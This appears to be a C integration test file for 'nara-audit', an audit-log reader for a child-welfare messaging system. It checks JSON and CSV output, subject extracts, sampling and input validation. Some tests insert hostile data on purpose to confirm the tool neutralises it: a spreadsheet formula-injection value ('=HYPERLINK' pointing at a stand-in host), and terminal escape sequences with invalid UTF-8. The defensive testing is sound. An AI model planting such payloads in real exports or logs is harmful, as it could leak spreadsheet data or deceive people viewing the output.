/*
 * itest_audit.c — nara-audit reading stores written by a real narad
 * (audit_suite.h): every --json output of trace, query and export parsed
 * and its fields checked, the extract for one child, the reproducible
 * sample, review record while narad writes, usage errors, unknown filters
 * and impossible dates, CSV cells that never start a formula, and a
 * refused envelope's control characters and bytes that are not UTF-8
 * escaped in the table and kept in JSON. verify, prune, tampering and key
 * rotation are in itest_audit_verify.c.
 */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <criterion/criterion.h>
#include <jansson.h>

#include "audit_suite.h"
#include "harness.h"
#include "wire.h"

TestSuite(audit, .init = setup, .fini = teardown, .timeout = 120);

static const char *const row_fields[] = { "seq", "time", "event", "node",
    "message_id", "type", "sender", "recipient", "author", "legal_basis",
    "payload_sha256", "payload_size", "subject", "code", "detail", "hash" };

/* Every documented row field is there, with the right JSON type. */
static void
check_row(json_t *row)
{
	cr_assert(json_is_object(row));
	for (size_t i = 0; i < sizeof(row_fields) / sizeof(row_fields[0]); i++)
		cr_assert(json_object_get(row, row_fields[i]) != NULL,
		    "field %s missing", row_fields[i]);
	cr_expect(json_is_integer(json_object_get(row, "seq")));
	cr_expect(json_is_string(json_object_get(row, "time")));
	cr_expect(json_is_string(json_object_get(row, "event")));
	cr_expect_eq(strlen(json_string_value(json_object_get(row, "hash"))), 64);
}

Test(audit, trace_query_export_outputs_parse)
{
	char a[37], b[37], *line;
	json_t *j, *row;
	size_t i;
	int lines = 0;

	traffic(a, b);
	cr_assert_eq(audit("trace %s -c %s --json", a, h.conf), 0, "%s", out);
	j = parse();
	cr_assert_geq(json_array_size(j), 3);
	json_array_foreach(j, i, row) {
		check_row(row);
		cr_expect_str_eq(str(row, "message_id"), a);
	}
	cr_expect_str_eq(str(json_array_get(j, 0), "event"), "received");
	/* the acked row shows as its three facts, at the row's seq and time,
	 * the receipt queued for the node that sent the message */
	for (i = 0; i + 2 < json_array_size(j); i++) {
		json_t *ack = json_array_get(j, i),
		    *purge = json_array_get(j, i + 1),
		    *rcpt = json_array_get(j, i + 2);

		if (strcmp(str(ack, "event"), "acked") != 0)
			continue;
		lines++;
		cr_expect_str_eq(str(purge, "event"), "payload_purged");
		cr_expect_str_eq(str(rcpt, "event"), "receipt_queued");
		cr_expect_eq(jint(purge, "seq"), jint(ack, "seq"));
		cr_expect_eq(jint(rcpt, "seq"), jint(ack, "seq"));
		cr_expect_str_eq(str(rcpt, "time"), str(ack, "time"));
		cr_expect_str_eq(str(rcpt, "node"),
		    str(json_array_get(j, 0), "node"));
		cr_expect_str_eq(str(rcpt, "detail"), "delivered");
		cr_expect(json_is_null(json_object_get(ack, "detail")));
	}
	cr_expect_eq(lines, 1, "one ack of message %s", a);
	lines = 0;
	json_decref(j);
	cr_expect_eq(audit("trace 00000000-0000-4000-8000-000000000000 -c %s",
	    h.conf), 1);

	cr_assert_eq(audit("query -c %s --party %s --event received --json",
	    h.conf, T_GBG_SOC), 0, "%s", out);
	j = parse();
	cr_expect_eq(json_array_size(j), 2);
	json_array_foreach(j, i, row) {
		check_row(row);
		cr_expect_str_eq(str(row, "recipient"), T_GBG_SOC);
	}
	json_decref(j);
	cr_assert_eq(audit("query -c %s --from 2000-01-01 --to 2000-12-31 --json",
	    h.conf), 0);
	j = parse();
	cr_expect_eq(json_array_size(j), 0);
	json_decref(j);
	cr_assert_eq(audit("query -c %s --csv --event acked", h.conf), 0);
	cr_expect(strncmp(out, "seq,time,event,node,message_id,", 31) == 0,
	    "%s", out);
	cr_expect(strstr(out, a) != NULL);
	cr_expect_eq(audit("query -c %s --from yesterday", h.conf), 2);

	cr_assert_eq(audit("export -c %s --format jsonl", h.conf), 0);
	for (line = strtok(out, "\n"); line != NULL; line = strtok(NULL, "\n")) {
		json_error_t jerr;
		json_t *o = json_loads(line, 0, &jerr);
		cr_assert_not_null(o, "line %d: %s", lines, jerr.text);
		check_row(o);
		json_decref(o);
		lines++;
	}
	/* one line per fact: an acked row records three (AUDIT.md) */
	cr_expect_eq(lines, harness_sql_long(&h, "select count(*) from audit") +
	    2 * harness_sql_long(&h, "select count(*) from audit where event = "
	    "'acked' and detail like 'payload purged; receipt queued for %'"));
	cr_expect_gt(harness_sql_long(&h, "select count(*) from audit where "
	    "event = 'acked'"), 0);
}

/* Rows of subject PN: every one about message want, none about other. */
static void
subject_is(const char *pn, const char *want, const char *other)
{
	json_t *j, *row;
	size_t i;
	bool seen = false;

	cr_assert_eq(audit("subject %s -c %s --json", pn, h.conf), 0, "%s", out);
	j = parse();
	json_array_foreach(j, i, row) {
		check_row(row);
		cr_expect_str_neq(str(row, "message_id"), other);
		seen |= strcmp(str(row, "message_id"), want) == 0;
		cr_expect_str_eq(str(row, "message_id"), want);
	}
	cr_expect(seen, "no rows about %s", want);
	json_decref(j);
}

Test(audit, subject_extract_finds_exactly_that_child)
{
	char a[37], b[37], pn[13] = "", sql[200];

	traffic(a, b);
	snprintf(sql, sizeof(sql), "select count(*) from audit where "
	    "message_id = '%s'", a);
	/* the fixture's child: born 2014-03-12, its number from the log of A
	 * is not available (only the pseudonym), so rebuild it the same way */
	{
		const char *body = "140312238";
		int sum = 0;
		for (int k = 0; k < 9; k++) {
			int d = (body[k] - '0') * (k % 2 == 0 ? 2 : 1);
			sum += d > 9 ? d - 9 : d;
		}
		snprintf(pn, sizeof(pn), "20%s%d", body, (10 - sum % 10) % 10);
	}
	subject_is(pn, a, b);
	subject_is(CHILD2, b, a);
	/* by standard input too */
	cr_assert_eq(harness_run(out, sizeof(out), "{ echo %s | %s subject - -c "
	    "%s --csv 2>/dev/null; }", CHILD2, tool, h.conf), 0);
	cr_expect(strstr(out, b) != NULL && strstr(out, a) == NULL);
	/* a bad number: coded error, and the number is not echoed */
	cr_expect_eq(harness_run(out, sizeof(out), "%s subject 201403122381 -c %s",
	    tool, h.conf), 2);
	cr_expect(strstr(out, "NR013") != NULL, "%s", out);
	cr_expect(strstr(out, "201403122381") == NULL, "%s", out);
	cr_expect_gt(harness_sql_long(&h, sql), 0);
	/* the clear number is nowhere in the store */
	cr_expect_eq(harness_sql_long(&h, "select count(*) from audit where "
	    "coalesce(detail, '') || coalesce(subject, '') like '%191212121212%'"),
	    0);
}

Test(audit, sample_is_reproducible)
{
	char a[37], b[37], first[OUT_MAX];
	json_t *j, *rows;

	traffic(a, b);
	cr_assert_eq(audit("sample -c %s --n 1 --from 2000-01-01 --to 2100-01-01 "
	    "--seed 7 --json", h.conf), 0, "%s", out);
	strcpy(first, out);
	j = parse();
	cr_expect_eq(jint(j, "seed"), 7);
	cr_expect_eq(jint(j, "population"), 2);
	cr_expect_eq(jint(j, "n"), 1);
	rows = json_object_get(j, "rows");
	cr_assert_eq(json_array_size(rows), 1);
	check_row(json_array_get(rows, 0));
	cr_expect_str_eq(str(json_array_get(rows, 0), "event"), "received");
	json_decref(j);
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(audit("sample -c %s --n 1 --from 2000-01-01 --to "
		    "2100-01-01 --seed 7 --json", h.conf), 0);
		cr_expect_str_eq(out, first);
	}
	/* a sample as large as the population is all of it */
	cr_assert_eq(audit("sample -c %s --n 5 --from 2000-01-01 --to 2100-01-01 "
	    "--seed 99", h.conf), 0);
	cr_expect(strstr(out, "seed 99: 2 of 2") != NULL, "%s", out);
	cr_expect_eq(audit("sample -c %s --n 5", h.conf), 2);
}

Test(audit, review_record_while_narad_writes)
{
	char a[37], b[37], c[37];
	struct tclient bup;
	json_t *j;

	traffic(a, b);
	cr_assert_eq(audit("review record %s -c %s --reviewer granskare-1 "
	    "--conclusion 'access justified'", a, h.conf), 0, "%s", out);
	/* narad appends after the review row, on the same chain */
	tclient_open(&bup, &h, T_BUP, 16);
	submit(&bup, NULL, c);
	tclient_close(&bup);
	wait_signed_head();
	j = verify_json(0);
	json_decref(j);
	cr_expect_eq(harness_sql_long(&h, "select count(*) from audit where "
	    "event = 'log_reviewed' and author = 'granskare-1'"), 1);
	cr_expect_eq(audit("review record 00000000-0000-4000-8000-000000000000 "
	    "-c %s --reviewer x --conclusion y", h.conf), 1);
	cr_expect_eq(audit("review record not-a-uuid -c %s --reviewer x "
	    "--conclusion y", h.conf), 2);
	cr_expect_eq(audit("review record %s -c %s --conclusion y", a, h.conf), 2);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	j = verify_json(0);
	json_decref(j);
}

Test(audit, usage_errors_and_help)
{
	cr_expect_eq(harness_run(out, sizeof(out), "%s", tool), 2);
	cr_expect_eq(harness_run(out, sizeof(out), "%s frobnicate", tool), 2);
	cr_expect(strstr(out, "NR072") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s verify --help", tool), 0);
	cr_expect(strstr(out, "usage: nara-audit verify") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s trace --seed 3 x --store "
	    "%s", tool, h.store), 2);
	cr_expect(strstr(out, "not used by trace") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s verify --store %s/nope.db",
	    tool, h.dir), 2);
	cr_expect(strstr(out, "NR071") != NULL, "%s", out);
}

/* Unknown names and impossible dates are errors (exit 2 with the reason),
 * never an empty answer or another day. */
Test(audit, unknown_filters_and_impossible_dates)
{
	char a[37], b[37];

	traffic(a, b);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --event "
	    "nosuch", tool, h.conf), 2, "%s", out);
	cr_expect(strstr(out, "unknown event \"nosuch\"") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --type "
	    "letter", tool, h.conf), 2, "%s", out);
	cr_expect(strstr(out, "unknown message type \"letter\"") != NULL, "%s",
	    out);
	cr_expect_eq(audit("query -c %s --event acked --type referral", h.conf),
	    0, "%s", out);
	/* an event no row holds yet, but nara writes, is a fine filter */
	cr_expect_eq(audit("query -c %s --event retried", h.conf), 0, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --from "
	    "2026-11-31", tool, h.conf), 2, "%s", out);
	cr_expect(strstr(out, "NR015") && strstr(out, "\"2026-11-31\""), "%s",
	    out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --to "
	    "2026-02-29T10:00:00Z", tool, h.conf), 2, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s prune -c %s --before "
	    "2025-13-01", tool, h.conf), 2, "%s", out);
	cr_expect_eq(audit("query -c %s --from 2024-02-29 --to "
	    "2099-12-31T23:59:59+01:00", h.conf), 0, "%s", out);
}

/* A reviewer's conclusion that a spreadsheet would run as a formula. */
Test(audit, csv_cells_never_start_a_formula)
{
	char a[37], b[37];

	traffic(a, b);
	cr_assert_eq(audit("review record %s -c %s --reviewer '@evil' "
	    "--conclusion '=HYPERLINK(\"http://x.example/\"&A1,\"ok\")'", a,
	    h.conf), 0, "%s", out);
	cr_assert_eq(audit("query -c %s --csv --event log_reviewed", h.conf), 0);
	cr_expect(strstr(out, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,"
	    "\"\"ok\"\")\"") != NULL, "%s", out);
	cr_expect(strstr(out, ",\"'@evil\",") != NULL, "%s", out);
	cr_expect(strstr(out, ",=") == NULL && strstr(out, ",@") == NULL &&
	    strstr(out, ",\"=") == NULL, "%s", out);
}

/* ---------------------------------------------------------------- hostile text */

/* What a refused envelope put in its row, as narad logged it: control
 * characters (a terminal's clear screen and window title, CR, DEL, the
 * C1 CSI), a right-to-left override, a backslash, an å and two bytes
 * that are not UTF-8. */
#define HOSTILE "kommun:1480:\x1b]0;ok\x07\x1b[2J\r\x7f\xc2\x9b\xe2\x80\xae" \
    "\\\xc3\xa5\xff\xfe"

/* narad has logged the refusal of the envelope id. */
static void
wait_rejected(const char *id)
{
	char sql[200];

	snprintf(sql, sizeof(sql), "select count(*) from audit where event = "
	    "'rejected' and message_id = '%s'", id);
	cr_assert(harness_wait_sql(&h, sql, 1, 10000), "no rejected row; see %s",
	    h.log);
}

/* The first byte of s a terminal would act on (a control character but
 * the table's line feeds) or that is never UTF-8 (F8..FF), or -1. */
static int
terminal_byte(const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p != '\0'; p++)
		if ((*p < 0x20 && *p != '\n') || *p == 0x7f || *p >= 0xf8)
			return *p;
	return -1;
}

/* A refused envelope's recipient reaches the table escaped (\xNN, so a
 * terminal shows what the row holds instead of obeying it) and the JSON
 * with every field, the bytes that are not UTF-8 as U+FFFD. */
Test(audit, refused_envelope_text_is_escaped_in_table_and_kept_in_json)
{
	struct tclient bup;
	Nara__Envelope *e = fixture_envelope(fx,
	    NARA__MESSAGE_TYPE__REPORT_OF_CONCERN, T_BUP, T_GBG_SOC);
	Nara__Frame *r;
	char id[37], recipient[] = HOSTILE;
	json_t *j, *row;

	strcpy(id, e->message_id);
	e->recipient = recipient;
	tclient_open(&bup, &h, T_BUP, 16);
	r = tclient_submit(&bup, e);
	cr_assert_eq(r->kind_case, NARA__FRAME__KIND_REJECTED);
	frame_free(&r);
	tclient_close(&bup);
	wait_rejected(id);

	cr_assert_eq(audit("trace %s -c %s", id, h.conf), 0);
	cr_expect_eq(terminal_byte(out), -1, "byte 0x%02x reached the table",
	    terminal_byte(out));
	cr_expect(strstr(out, "kommun:1480:\\x1b]0;ok\\x07\\x1b[2J\\x0d\\x7f"
	    "\\xc2\\x9b\\xe2\\x80\\xae\\\\\xc3\xa5\\xff\\xfe ") != NULL,
	    "the recipient is not shown escaped");
	cr_expect(strstr(out, id) != NULL, "%s", out);

	cr_assert_eq(audit("trace %s -c %s --json", id, h.conf), 0);
	j = parse();
	cr_assert_eq(json_array_size(j), 1);
	row = json_array_get(j, 0);
	check_row(row);
	cr_expect(json_is_string(json_object_get(row, "recipient")),
	    "the recipient field was dropped");
	cr_expect_str_eq(str(row, "recipient"), "kommun:1480:\x1b]0;ok\x07"
	    "\x1b[2J\r\x7f\xc2\x9b\xe2\x80\xae\\\xc3\xa5\xef\xbf\xbd"
	    "\xef\xbf\xbd");
	cr_expect_str_eq(str(row, "event"), "rejected");
	json_decref(j);
}
